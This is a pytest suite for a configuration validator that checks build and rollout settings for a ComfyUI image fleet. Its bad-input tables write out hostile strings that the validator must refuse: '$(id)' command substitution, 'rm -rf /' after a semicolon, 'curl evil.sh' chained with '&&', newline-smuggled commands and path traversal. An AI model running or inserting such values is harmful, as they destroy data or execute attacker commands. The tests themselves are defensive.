"""sagefleet.pins: the real group_data validates; every rule refuses its bad input exactly."""

import pickle
import runpy
import subprocess
import sys
from pathlib import Path

import pem
import pytest

from sagefleet.pins import KNOWN_KEYS, MISSING, GitContext, LocalDir, PinError, Pins, validate

ROOT = Path(__file__).resolve().parents[2]
ALL = "group_data/all.py"
GROUP = "group_data/blackwell.py"
DELETE = object()  # an override value that removes the key


def load(name: str) -> dict:
    data = runpy.run_path(str(ROOT / "group_data" / name))
    return {k: v for k, v in data.items() if not k.startswith("__")}


def merged(overrides: dict) -> dict:
    data = load("all.py")
    for key, value in overrides.items():
        if value is DELETE:
            data.pop(key, None)
        else:
            data[key] = value
    return data


def sources(overrides: dict):
    return lambda key: GROUP if key in overrides else ALL


def wheels(**sageattention) -> dict:
    entry = {"version": "2.2.0", "release_tag": "v2.2.0-build.16", "build_tag": "290.129"}
    entry.update(sageattention)
    return {"sageattention": {k: v for k, v in entry.items() if v is not DELETE}}


# --- good data -----------------------------------------------------------------------------


def test_all_py_validates_and_derives_names():
    pins = validate(load("all.py"))
    assert isinstance(pins, Pins)
    assert [w.name for w in pins.image.wheels] == ["sageattention", "sageattn3"]
    sa = pins.image.wheel("sageattention")
    assert sa.filename == "sageattention-2.2.0-290.129-cp312-cp312-linux_x86_64.whl"
    assert sa.url == (
        "https://github.com/pixeloven/SageAttention/releases/download/v2.2.0-build.16/"
        "sageattention-2.2.0-290.129-cp312-cp312-linux_x86_64.whl"
    )
    assert pins.image.wheel("sageattn3").url == (
        "https://github.com/pixeloven/SageAttention/releases/download/v2.2.0-build.16/"
        "sageattn3-1.0.0-290.129-cp312-cp312-linux_x86_64.whl"
    )
    assert pins.image.wheel("SageAttention") is sa  # looked up canonically
    assert pins.image.wheel("flash-attn") is None
    assert pins.image.require_sageattn3 is False
    assert pins.image.bake_variables["REGISTRY_URL"] == "ghcr.io/pixeloven"
    assert pins.image.bake_variables["TORCH_VERSION"] == pins.image.torch_version
    assert pins.image.requirements_path is None and pins.image.image_tag is None
    assert pins.build.bake_cache_ref is None
    assert pins.image.extra_requirements[0] == "triton==3.5.0"
    assert pins.image.bake_files == ("docker-bake.hcl",)
    assert pins.image.build_context is None and pins.build.pip_ca_bundle is None
    assert pins.build.min_free_disk_gb == 40.0


def test_known_keys_are_the_keys_of_all_py():
    assert set(load("all.py")) == KNOWN_KEYS


@pytest.mark.parametrize("group, sageattn3", [("blackwell.py", True), ("hopper.py", False)])
def test_groups_merged_over_all_validate(group, sageattn3):
    pins = validate({**load("all.py"), **load(group)})
    assert pins.image.require_sageattn3 is sageattn3


def test_template_context_is_plain_data():
    ctx = validate(load("all.py")).image.template_vars()
    assert set(ctx) == {
        "python_version",
        "torch_version",
        "cuda_version",
        "wheels",
        "extra_requirements",
    }
    assert ctx["wheels"][0] == {
        "name": "sageattention",
        "version": "2.2.0",
        "release_tag": "v2.2.0-build.16",
        "build_tag": "290.129",
        "python_tag": "cp312",
        "platform": "linux_x86_64",
        "filename": "sageattention-2.2.0-290.129-cp312-cp312-linux_x86_64.whl",
        "url": "https://github.com/pixeloven/SageAttention/releases/download/v2.2.0-build.16/"
        "sageattention-2.2.0-290.129-cp312-cp312-linux_x86_64.whl",
        "sha256": None,
    }
    assert isinstance(ctx["extra_requirements"], list)


def test_local_wheelhouse_allows_http_and_file_urls():
    pins = validate(
        merged(
            {
                "local_wheelhouse": True,
                "sage_release_base": "http://wheels.lan:8080/releases/",
                "torch_index_url": "file:///srv/wheelhouse/torch",
            }
        )
    )
    assert pins.image.wheel("sageattention").url == (
        "http://wheels.lan:8080/releases/v2.2.0-build.16/"
        "sageattention-2.2.0-290.129-cp312-cp312-linux_x86_64.whl"
    )


def test_other_good_values(tmp_path):
    (tmp_path / "corp-ca.pem").write_text(pem.certificate())
    pins = validate(
        merged(
            {
                "build_context": {
                    "git": "https://github.com/pixeloven/ComfyUI-Docker",
                    "ref": "v1",
                },
                "sage_wheel_platform": "manylinux_2_28_aarch64",
                "extra_requirements": ["Triton == 3.5.0", "diffusers[torch]==0.35.2"],
                "bake_variables": {
                    "REGISTRY_URL": "localhost:5000/sagefleet/",
                    "BASE_IMAGE": "nvidia/cuda@sha256:" + "a" * 64,
                    "lower_case_ok": "x",
                },
                "requirements_path": "services/complete/reqs.txt",
                "image_tag": "localhost:5000/sagefleet/complete:cuda-cache",
                "bake_cache_ref": "localhost:5000/team/comfyui-cache",
                "pip_ca_bundle": str(tmp_path / "corp-ca.pem"),
                "min_free_disk_gb": 0,
            }
        )
    )
    assert pins.image.build_context == GitContext(
        "https://github.com/pixeloven/ComfyUI-Docker", "v1"
    )
    assert pins.image.extra_requirements == ("Triton==3.5.0", "diffusers[torch]==0.35.2")
    assert pins.image.bake_variables == {
        "BASE_IMAGE": "nvidia/cuda@sha256:" + "a" * 64,
        "REGISTRY_URL": "localhost:5000/sagefleet/",
        "lower_case_ok": "x",
    }
    assert pins.image.requirements_path == "services/complete/reqs.txt"
    assert pins.image.image_tag == "localhost:5000/sagefleet/complete:cuda-cache"
    assert pins.build.bake_cache_ref == "localhost:5000/team/comfyui-cache"
    pins = validate(merged({"build_context": ["services", "docker-bake.hcl"]}))
    assert pins.image.build_context == ("services", "docker-bake.hcl")
    pins = validate(merged({"build_context": {"dir": "/srv/ComfyUI-Docker"}}))
    assert pins.image.build_context == LocalDir("/srv/ComfyUI-Docker")


def test_vcs_requirement_pinned_to_a_full_commit_is_accepted():
    sha = "0123456789abcdef0123456789abcdef01234567"
    req = f"sam2 @ git+https://github.com/facebookresearch/sam2.git@{sha}"
    pins = validate(merged({"extra_requirements": [req, "piexif==1.1.3"]}))
    assert pins.image.extra_requirements[0] == req


def test_supported_connector_keys_pass():
    data = merged({"ssh_user": "root", "ssh_port": 2222, "docker_identifier": "abc123"})
    assert validate(data).image.bake_target == "complete-cuda"


def test_pin_error_attributes_and_pickle():
    err = PinError("--data", "sage_wheels.sageattention.build_tag", "b1", "why")
    assert (err.source, err.key, err.value, err.reason) == (
        "--data",
        "sage_wheels.sageattention.build_tag",
        "b1",
        "why",
    )
    assert str(err) == "--data: sage_wheels.sageattention.build_tag = 'b1': why"
    assert isinstance(err, ValueError)
    assert str(pickle.loads(pickle.dumps(err))) == str(err)
    assert repr(MISSING) == "<missing>"


def test_pins_imports_no_pyinfra():
    code = (
        "import sys, sagefleet.pins; assert not any(m.startswith('pyinfra') for m in sys.modules)"
    )
    subprocess.run([sys.executable, "-c", code], check=True, cwd=ROOT)


# --- bad data: (description, overrides on top of all.py, exact message) -----------------------

META = "whitespace, quotes and shell metacharacters are refused"
LINUX = "a Linux platform tag like 'linux_x86_64' or 'manylinux_2_28_x86_64'"
PINNED = (
    "must be pinned exactly with one == (e.g. 'triton==3.5.0'): a range lets pip pick another "
    "version on the next bake, so the same pins could build a different image (idempotence "
    "needs one exact version)"
)
MOVES = (
    "is not a full 40-hex commit: a branch, tag or short ref can move, so the same pins could "
    "build a different image (idempotence needs the commit SHA)"
)
SAM2 = "sam2 @ git+https://github.com/facebookresearch/sam2.git"
CONTEXT = "must be None, a list of relative paths, {'dir': PATH} or {'git': URL, 'ref': REF}"
B = GROUP

BAD = [
    # presence and names of keys
    (
        "missing required key",
        {"torch_version": DELETE},
        f"{B}: torch_version = <missing>: required key is missing",
    ),
    (
        "unknown key, close to a known one",
        {"sage_wheel": "x"},
        f"{B}: sage_wheel = 'x': unknown key (did you mean 'sage_wheels'?)",
    ),
    (
        "unknown key, nothing close",
        {"colour": "blue"},
        f"{B}: colour = 'blue': unknown key (not a key of group_data/all.py)",
    ),
    # python version and tag
    (
        "python_version as a float",
        {"python_version": 3.12},
        f"{B}: python_version = 3.12: must be a string, not float",
    ),
    (
        "python_version with a patch level",
        {"python_version": "3.12.1"},
        f"{B}: python_version = '3.12.1': must be '3.N', e.g. '3.12'",
    ),
    (
        "python tag disagrees with python_version",
        {"sage_wheel_python_tag": "cp311"},
        f"{B}: sage_wheel_python_tag = 'cp311': does not match python_version '3.12' "
        "(expected 'cp312')",
    ),
    (
        "python_version disagrees with the tag in all.py",
        {"python_version": "3.11"},
        f"{ALL}: sage_wheel_python_tag = 'cp312': does not match python_version '3.11' "
        "(expected 'cp311')",
    ),
    (
        "python tag not CPython",
        {"sage_wheel_python_tag": "py3"},
        f"{B}: sage_wheel_python_tag = 'py3': not a CPython tag like 'cp312'",
    ),
    # versions
    (
        "bad torch version",
        {"torch_version": "latest"},
        f"{B}: torch_version = 'latest': not a valid version (PEP 440)",
    ),
    (
        "cuda version not normalised",
        {"cuda_version": "12.09"},
        f"{B}: cuda_version = '12.09': version not in normal form (write '12.9')",
    ),
    (
        "bad wheel version",
        {"sage_wheels": wheels(version="two")},
        f"{B}: sage_wheels.sageattention.version = 'two': not a valid version (PEP 440)",
    ),
    # sage_wheels structure and names
    (
        "sage_wheels a list",
        {"sage_wheels": ["sageattention"]},
        f"{B}: sage_wheels = ['sageattention']: must be a dict of name -> pins, not list",
    ),
    (
        "non-canonical wheel name",
        {"sage_wheels": {"SageAttention": wheels()["sageattention"]}},
        f"{B}: sage_wheels = 'SageAttention': wheel name not canonical (write 'sageattention')",
    ),
    (
        "invalid wheel name",
        {"sage_wheels": {"-sage": wheels()["sageattention"]}},
        f"{B}: sage_wheels = '-sage': not a valid distribution name",
    ),
    (
        "unknown nested key",
        {"sage_wheels": wheels(md5="abc")},
        f"{B}: sage_wheels.sageattention.md5 = 'abc': unknown key "
        "(expected version, release_tag, build_tag; optional: fingerprint, sha256)",
    ),
    (
        "workload seq lens not a list",
        {"probe_workload_seq_lens": 16384},
        f"{B}: probe_workload_seq_lens = 16384: must be a list of sequence lengths, not int",
    ),
    (
        "workload seq len not a whole number",
        {"probe_workload_seq_lens": [16384, "32k"]},
        f"{B}: probe_workload_seq_lens[1] = '32k': must be a whole number between 16 and 1048576",
    ),
    (
        "workload seq len out of range",
        {"probe_workload_seq_lens": [0]},
        f"{B}: probe_workload_seq_lens[0] = 0: must be a whole number between 16 and 1048576",
    ),
    (
        "fingerprint not a sha256 digest",
        {"sage_wheels": wheels(fingerprint="sha256:abc")},
        f"{B}: sage_wheels.sageattention.fingerprint = 'sha256:abc': not 'sha256:' and 64 "
        "lower-case hex digits, as the probe reports it",
    ),
    (
        "fingerprint with a shell metacharacter",
        {"sage_wheels": wheels(fingerprint="sha256:$(id)")},
        f"{B}: sage_wheels.sageattention.fingerprint = 'sha256:$(id)': contains '$': {META}",
    ),
    (
        "misspelt nested key",
        {"sage_wheels": wheels(relase_tag="v1")},
        f"{B}: sage_wheels.sageattention.relase_tag = 'v1': unknown key "
        "(did you mean 'release_tag'?)",
    ),
    (
        "missing nested key",
        {"sage_wheels": wheels(build_tag=DELETE)},
        f"{B}: sage_wheels.sageattention.build_tag = <missing>: required key is missing",
    ),
    (
        "build tag not starting with a digit",
        {"sage_wheels": wheels(build_tag="b290")},
        f"{B}: sage_wheels.sageattention.build_tag = 'b290': "
        "build tag must start with a digit (PEP 427)",
    ),
    (
        "build tag with a dash would split the file name",
        {"sage_wheels": wheels(build_tag="290-1")},
        f"{B}: sage_wheels.sageattention.build_tag = '290-1': not a build tag like '290.129'",
    ),
    (
        "release tag escaping its path segment",
        {"sage_wheels": wheels(release_tag="v1/../../x")},
        f"{B}: sage_wheels.sageattention.release_tag = 'v1/../../x': "
        "not a safe path segment matching [A-Za-z0-9][A-Za-z0-9._+-]*",
    ),
    (
        "command substitution in release tag",
        {"sage_wheels": wheels(release_tag="$(touch /tmp/pwned)")},
        f"{B}: sage_wheels.sageattention.release_tag = '$(touch /tmp/pwned)': contains '$': {META}",
    ),
    (
        "windows platform",
        {"sage_wheel_platform": "win_amd64"},
        f"{B}: sage_wheel_platform = 'win_amd64': not {LINUX}",
    ),
    (
        "require_sageattn3 without its wheel",
        {"require_sageattn3": True, "sage_wheels": wheels()},
        f"{B}: require_sageattn3 = True: requires a 'sageattn3' entry in sage_wheels",
    ),
    (
        "require_sageattn3 as a string",
        {"require_sageattn3": "true"},
        f"{B}: require_sageattn3 = 'true': must be True or False, not str",
    ),
    # URLs
    (
        "http without local_wheelhouse",
        {"sage_release_base": "http://wheels.lan/releases"},
        f"{B}: sage_release_base = 'http://wheels.lan/releases': "
        "http:// is only allowed with local_wheelhouse = True",
    ),
    (
        "file URL without local_wheelhouse",
        {"torch_index_url": "file:///srv/torch"},
        f"{B}: torch_index_url = 'file:///srv/torch': "
        "file:// is only allowed with local_wheelhouse = True",
    ),
    (
        "ftp URL",
        {"torch_index_url": "ftp://mirror.lan/torch"},
        f"{B}: torch_index_url = 'ftp://mirror.lan/torch': "
        "URL must be https:// (http:// or file:// with local_wheelhouse)",
    ),
    (
        "backticks in URL",
        {"torch_index_url": "https://download.pytorch.org/whl/`id`"},
        f"{B}: torch_index_url = 'https://download.pytorch.org/whl/`id`': contains '`': {META}",
    ),
    (
        "semicolon in URL",
        {"sage_release_base": "https://github.com/x;rm -rf ~"},
        f"{B}: sage_release_base = 'https://github.com/x;rm -rf ~': contains ';': {META}",
    ),
    (
        "credentials in URL",
        {"torch_index_url": "https://user:secret@pypi.lan/simple"},
        f"{B}: torch_index_url = 'https://user:secret@pypi.lan/simple': "
        "URL must not contain credentials",
    ),
    (
        "query in release base",
        {"sage_release_base": "https://github.com/releases?x=1"},
        f"{B}: sage_release_base = 'https://github.com/releases?x=1': "
        "URL must not have a query or fragment",
    ),
    (
        "local_wheelhouse as a string",
        {"local_wheelhouse": "yes"},
        f"{B}: local_wheelhouse = 'yes': must be True or False, not str",
    ),
    # extra_requirements
    (
        "extra_requirements a string",
        {"extra_requirements": "triton==3.5.0"},
        f"{B}: extra_requirements = 'triton==3.5.0': must be a list of strings, not str",
    ),
    (
        "unpinned requirement",
        {"extra_requirements": ["triton>=3.5"]},
        f"{B}: extra_requirements[0] = 'triton>=3.5': {PINNED}",
    ),
    (
        "wildcard pin",
        {"extra_requirements": ["triton==3.*"]},
        f"{B}: extra_requirements[0] = 'triton==3.*': {PINNED}",
    ),
    (
        "duplicate pin",
        {"extra_requirements": ["triton==3.5.0", "Triton==3.4.0"]},
        f"{B}: extra_requirements[1] = 'Triton==3.4.0': triton is pinned twice "
        "(also extra_requirements[0])",
    ),
    (
        "sage wheel pinned again",
        {"extra_requirements": ["SageAttention==2.2.0"]},
        f"{B}: extra_requirements[0] = 'SageAttention==2.2.0': "
        "sageattention is pinned in sage_wheels already",
    ),
    (
        "torch pinned again",
        {"extra_requirements": ["torch==2.8.0"]},
        f"{B}: extra_requirements[0] = 'torch==2.8.0': torch is pinned by torch_version already",
    ),
    (
        "URL requirement",
        {"extra_requirements": ["triton @ https://x.org/triton.whl"]},
        f"{B}: extra_requirements[0] = 'triton @ https://x.org/triton.whl': "
        "a URL requirement must be 'name @ git+https://host/repo@<40-hex commit>' "
        "(other URLs can serve other bytes later; pin a version with == instead)",
    ),
    (
        "VCS requirement on a branch",
        {"extra_requirements": [SAM2 + "@main"]},
        f"{B}: extra_requirements[0] = '{SAM2}@main': ref 'main' {MOVES}",
    ),
    (
        "VCS requirement on a short commit",
        {"extra_requirements": [SAM2 + "@2b90b9f"]},
        f"{B}: extra_requirements[0] = '{SAM2}@2b90b9f': ref '2b90b9f' {MOVES}",
    ),
    (
        "VCS requirement without a ref",
        {"extra_requirements": [SAM2]},
        f"{B}: extra_requirements[0] = '{SAM2}': no ref {MOVES}",
    ),
    (
        "VCS requirement over http",
        {"extra_requirements": ["sam2 @ git+http://git.lan/sam2@" + "a" * 40]},
        f"{B}: extra_requirements[0] = 'sam2 @ git+http://git.lan/sam2@{'a' * 40}': "
        "a URL requirement must be 'name @ git+https://host/repo@<40-hex commit>' "
        "(other URLs can serve other bytes later; pin a version with == instead)",
    ),
    (
        "marker",
        {"extra_requirements": ["triton==3.5.0; sys_platform == 'linux'"]},
        f"{B}: extra_requirements[0] = \"triton==3.5.0; sys_platform == 'linux'\": "
        "environment markers are not supported; the image has one platform",
    ),
    (
        "shell in requirement",
        {"extra_requirements": ["triton==3.5.0 && curl evil.sh"]},
        f"{B}: extra_requirements[0] = 'triton==3.5.0 && curl evil.sh': "
        "not a PEP 508 requirement (Expected comma (within version specifier), "
        "semicolon (after version specifier) or end)",
    ),
    (
        "newline in requirement",
        {"extra_requirements": ["triton==3.5.0\nevil==1"]},
        f"{B}: extra_requirements[0] = 'triton==3.5.0\\nevil==1': must be one line",
    ),
    # paths and names on the build host
    (
        "relative build_dir",
        {"build_dir": "opt/build"},
        f"{B}: build_dir = 'opt/build': must be an absolute path",
    ),
    (
        "build_dir climbing out",
        {"build_dir": "/opt/../etc"},
        f"{B}: build_dir = '/opt/../etc': path must not contain '..'",
    ),
    (
        "build_dir with a command",
        {"build_dir": "/opt/build;rm -rf /"},
        f"{B}: build_dir = '/opt/build;rm -rf /': contains ';': {META}",
    ),
    (
        "build_dir with a newline",
        {"build_dir": "/opt/build\ntouch /tmp/pwned"},
        f"{B}: build_dir = '/opt/build\\ntouch /tmp/pwned': contains '\\n': {META}",
    ),
    (
        "build_dir not normal",
        {"build_dir": "/opt/build/"},
        f"{B}: build_dir = '/opt/build/': path not in normal form (write '/opt/build')",
    ),
    (
        "build_dir is root",
        {"build_dir": "/"},
        f"{B}: build_dir = '/': must not be /",
    ),
    (
        "bake_target with &&",
        {"bake_target": "complete&&id"},
        f"{B}: bake_target = 'complete&&id': contains '&': {META}",
    ),
    (
        "bake variable name not an identifier",
        {"bake_variables": {"REGISTRY-URL": "x"}},
        f"{B}: bake_variables = 'REGISTRY-URL': "
        "a variable name must be an identifier ([A-Za-z_][A-Za-z0-9_]*)",
    ),
    (
        "bake variable value with a quote",
        {"bake_variables": {"IMAGE_LABEL": "latest'"}},
        f'{B}: bake_variables.IMAGE_LABEL = "latest\'": contains "\'": {META}',
    ),
    (
        "bake variable value with a command",
        {"bake_variables": {"BASE_IMAGE": "ubuntu|sh"}},
        f"{B}: bake_variables.BASE_IMAGE = 'ubuntu|sh': contains '|': {META}",
    ),
    (
        "bake variable value not a string",
        {"bake_variables": {"IMAGE_LABEL": 3}},
        f"{B}: bake_variables.IMAGE_LABEL = 3: must be a string, not int",
    ),
    (
        "bake variables a list",
        {"bake_variables": ["REGISTRY_URL=x"]},
        f"{B}: bake_variables = ['REGISTRY_URL=x']: must be a dict of NAME -> value",
    ),
    (
        "TORCH_VERSION differs from torch_version",
        {"bake_variables": {"TORCH_VERSION": "2.8.0"}},
        f"{B}: bake_variables.TORCH_VERSION = '2.8.0': differs from torch_version '2.9.0' "
        "(the gate checks the image's torch against torch_version)",
    ),
    (
        "requirements_path outside the context",
        {"requirements_path": "../extra.txt"},
        f"{B}: requirements_path = '../extra.txt': path must not contain '..'",
    ),
    (
        "image_tag not a reference",
        {"image_tag": "Reg/X:tag"},
        f"{B}: image_tag = 'Reg/X:tag': not one of the bake target's tags, e.g. 'reg/x:tag'",
    ),
    (
        "bake_cache_ref with a tag",
        {"bake_cache_ref": "reg.example/cache:tag"},
        f"{B}: bake_cache_ref = 'reg.example/cache:tag': not a registry repository like "
        "'registry.example:5000/team/comfyui-cache' (lowercase, no scheme, no tag: "
        "sagefleet adds one tag per target)",
    ),
    (
        "no bake files",
        {"bake_files": []},
        f"{B}: bake_files = []: must name at least one bake file",
    ),
    (
        "bake file outside the project",
        {"bake_files": ["../docker-bake.hcl"]},
        f"{B}: bake_files[0] = '../docker-bake.hcl': path must not contain '..'",
    ),
    (
        "absolute bake file",
        {"bake_files": ["/etc/passwd"]},
        f"{B}: bake_files[0] = '/etc/passwd': must be a relative path",
    ),
    (
        "bake file not a string",
        {"bake_files": ["docker-bake.hcl", 7]},
        f"{B}: bake_files[1] = 7: must be a string, not int",
    ),
    # build_context
    (
        "build_context path with command substitution",
        {"build_context": ["services/$(id)"]},
        f"{B}: build_context[0] = 'services/$(id)': contains '$': {META}",
    ),
    (
        "build_context path as an option",
        {"build_context": ["--help"]},
        f"{B}: build_context[0] = '--help': must not start with '-'",
    ),
    (
        "build_context a string",
        {"build_context": "services"},
        f"{B}: build_context = 'services': {CONTEXT}",
    ),
    (
        "build_context git over http",
        {"build_context": {"git": "http://git.lan/x.git", "ref": "main"}},
        f"{B}: build_context.git = 'http://git.lan/x.git': "
        "http:// is only allowed with local_wheelhouse = True",
    ),
    (
        "build_context without ref",
        {"build_context": {"git": "https://github.com/x/y"}},
        f"{B}: build_context.ref = <missing>: required key is missing",
    ),
    (
        "build_context unknown key",
        {"build_context": {"git": "https://github.com/x/y", "ref": "v1", "branch": "main"}},
        f"{B}: build_context.branch = 'main': unknown key (expected dir, or git and ref)",
    ),
    (
        "build_context ref with a command",
        {"build_context": {"git": "https://github.com/x/y", "ref": "main;id"}},
        f"{B}: build_context.ref = 'main;id': contains ';': {META}",
    ),
    (
        "build_context ref with ..",
        {"build_context": {"git": "https://github.com/x/y", "ref": "v1..v2"}},
        f"{B}: build_context.ref = 'v1..v2': not a valid git ref name",
    ),
    # the rest
    (
        "relative pip_ca_bundle",
        {"pip_ca_bundle": "ca.pem"},
        f"{B}: pip_ca_bundle = 'ca.pem': must be an absolute path",
    ),
    (
        "negative disk space",
        {"min_free_disk_gb": -1},
        f"{B}: min_free_disk_gb = -1: must be a non-negative number",
    ),
    (
        "disk space as a string",
        {"min_free_disk_gb": "40"},
        f"{B}: min_free_disk_gb = '40': must be a non-negative number",
    ),
    (
        "force_rebuild as an int",
        {"force_rebuild": 1},
        f"{B}: force_rebuild = 1: must be True or False, not int",
    ),
]


@pytest.mark.parametrize(
    "overrides, message", [case[1:] for case in BAD], ids=[case[0] for case in BAD]
)
def test_bad_input_is_refused(overrides, message):
    with pytest.raises(PinError) as info:
        validate(merged(overrides), sources(overrides))
    assert str(info.value) == message


def test_bad_cases_are_distinct():
    assert len(BAD) >= 30
    assert len({case[2] for case in BAD}) == len(BAD)


# --- rollout keys ------------------------------------------------------------------------------

DIGEST = "172.17.0.1:5000/sagefleet/comfyui-docker/complete-cuda@sha256:" + "a" * 64


def test_rollout_keys_of_all_py():
    pins = validate(load("all.py"))
    assert pins.service.rollout_batch_size == 2 and pins.service.rollout_canary_group == "canary"
    assert pins.service.service_volumes == (
        ("/opt/comfyui/models", "/app/ComfyUI/models"),
        ("/opt/comfyui/output", "/app/ComfyUI/output"),
    )
    assert pins.service.rollout_auto_rollback is True
    # Per-run parameters are arguments of the rollout, never data.
    assert not {"target_image", "rollout_action", "rollout_results_dir"} & set(load("all.py"))


def test_gpu_access_and_service_network():
    assert validate(load("all.py")).service.gpu_access == "auto"
    assert validate(load("all.py")).service.service_network is None
    for mode in ("auto", "nvidia-runtime", "cdi", "none"):
        assert validate(merged({"gpu_access": mode})).service.gpu_access == mode
    assert validate(merged({"service_network": "host"})).service.service_network == "host"


def test_rollout_keys_are_optional_with_defaults():
    data = {k: v for k, v in load("all.py").items() if k not in ("state_dir", "service_port")}
    pins = validate(data)
    assert pins.service.state_dir == "/var/lib/sagefleet" and pins.service.service_port == 8188


def test_rollout_values_from_data():
    pins = validate(merged({"rollout_auto_rollback": False, "service_cli_args": ["--lowvram"]}))
    assert pins.service.rollout_auto_rollback is False
    assert pins.service.service_cli_args == ("--lowvram",)


B = GROUP
# (overrides, the exact message): every rollout and GPU-node rule, each refusing its bad input.
BAD_ROLLOUT = [
    (
        {"rollout_results_dir": "/tmp/r"},
        f"{B}: " + "rollout_results_dir = '/tmp/r': unknown key (not a key of group_data/all.py)",
    ),
    (
        {"rollout_auto_rollback": "yes"},
        f"{B}: " + "rollout_auto_rollback = 'yes': must be True or False, not str",
    ),
    ({"rollout_batch_size": 0}, f"{B}: " + "rollout_batch_size = 0: must be a whole number >= 1"),
    (
        {"rollout_batch_size": True},
        f"{B}: " + "rollout_batch_size = True: must be a whole number >= 1",
    ),
    (
        {"rollout_batch_size": 1.5},
        f"{B}: " + "rollout_batch_size = 1.5: must be a whole number >= 1",
    ),
    (
        {"service_port": 70000},
        f"{B}: " + "service_port = 70000: must be a TCP port number (1-65535)",
    ),
    ({"service_port": 0}, f"{B}: " + "service_port = 0: must be a TCP port number (1-65535)"),
    (
        {"service_port": "8188"},
        f"{B}: " + "service_port = '8188': must be a TCP port number (1-65535)",
    ),
    ({"service_port": True}, f"{B}: " + "service_port = True: must be a TCP port number (1-65535)"),
    (
        {"service_restart": "sometimes"},
        f"{B}: "
        + "service_restart = 'sometimes': not a Docker restart policy (no, always, unless-stopped, on-failure[:N])",
    ),
    ({"service_restart": 3}, f"{B}: " + "service_restart = 3: must be a string, not int"),
    (
        {"service_cli_args": ["--listen 0.0.0.0"]},
        f"{B}: "
        + "service_cli_args[0] = '--listen 0.0.0.0': contains ' ': whitespace, quotes and shell metacharacters are refused",
    ),
    (
        {"service_cli_args": "--lowvram"},
        f"{B}: " + "service_cli_args = '--lowvram': must be a list of strings, not str",
    ),
    (
        {"service_volumes": {"models": "/app/models"}},
        f"{B}: " + "service_volumes['models'] = 'models': must be an absolute path",
    ),
    (
        {"service_volumes": {"/models": "app/models"}},
        f"{B}: " + "service_volumes['/models'] = 'app/models': must be an absolute path",
    ),
    (
        {"service_volumes": [["/m"]]},
        f"{B}: " + "service_volumes[0] = ['/m']: must be a (host path, container path) pair",
    ),
    (
        {"service_volumes": "/m:/app/m"},
        f"{B}: " + "service_volumes = '/m:/app/m': must be a dict {host path: container path}",
    ),
    (
        {"service_name": "comfy ui"},
        f"{B}: "
        + "service_name = 'comfy ui': contains ' ': whitespace, quotes and shell metacharacters are refused",
    ),
    (
        {"service_name": "-comfy"},
        f"{B}: "
        + "service_name = '-comfy': not a container name matching [a-zA-Z0-9][a-zA-Z0-9_.-]*",
    ),
    (
        {"state_dir": "/var/lib/../x"},
        f"{B}: " + "state_dir = '/var/lib/../x': path must not contain '..'",
    ),
    ({"state_dir": "var/lib"}, f"{B}: " + "state_dir = 'var/lib': must be an absolute path"),
    (
        {"registry_auth_file": "auth.json"},
        f"{B}: " + "registry_auth_file = 'auth.json': must be an absolute path",
    ),
    ({"health_timeout_s": 0}, f"{B}: " + "health_timeout_s = 0: must be at least 1.0"),
    ({"health_timeout_s": "5"}, f"{B}: " + "health_timeout_s = '5': must be a number"),
    (
        {"rollout_canary_group": "can ary"},
        f"{B}: "
        + "rollout_canary_group = 'can ary': contains ' ': whitespace, quotes and shell metacharacters are refused",
    ),
    (
        {"rollout_canary_group": "-canary"},
        f"{B}: " + "rollout_canary_group = '-canary': not a group name",
    ),
    (
        {"verify_on_nodes": "yes"},
        f"{B}: " + "verify_on_nodes = 'yes': must be True or False, not str",
    ),
    (
        {"gpu_access": "gpus-all"},
        f"{B}: " + "gpu_access = 'gpus-all': must be one of auto, nvidia-runtime, cdi, none",
    ),
    (
        {"gpu_access": None},
        f"{B}: " + "gpu_access = None: must be one of auto, nvidia-runtime, cdi, none",
    ),
    (
        {"service_network": "host;id"},
        f"{B}: "
        + "service_network = 'host;id': contains ';': whitespace, quotes and shell metacharacters are refused",
    ),
    (
        {"service_network": "-host"},
        f"{B}: "
        + "service_network = '-host': not a Docker network name (e.g. 'host'); None: the default bridge with -p PORT:PORT",
    ),
]


@pytest.mark.parametrize(("overrides", "message"), BAD_ROLLOUT)
def test_bad_rollout_values(overrides, message):
    with pytest.raises(PinError) as exc:
        validate(merged(overrides), sources(overrides))
    assert str(exc.value) == message
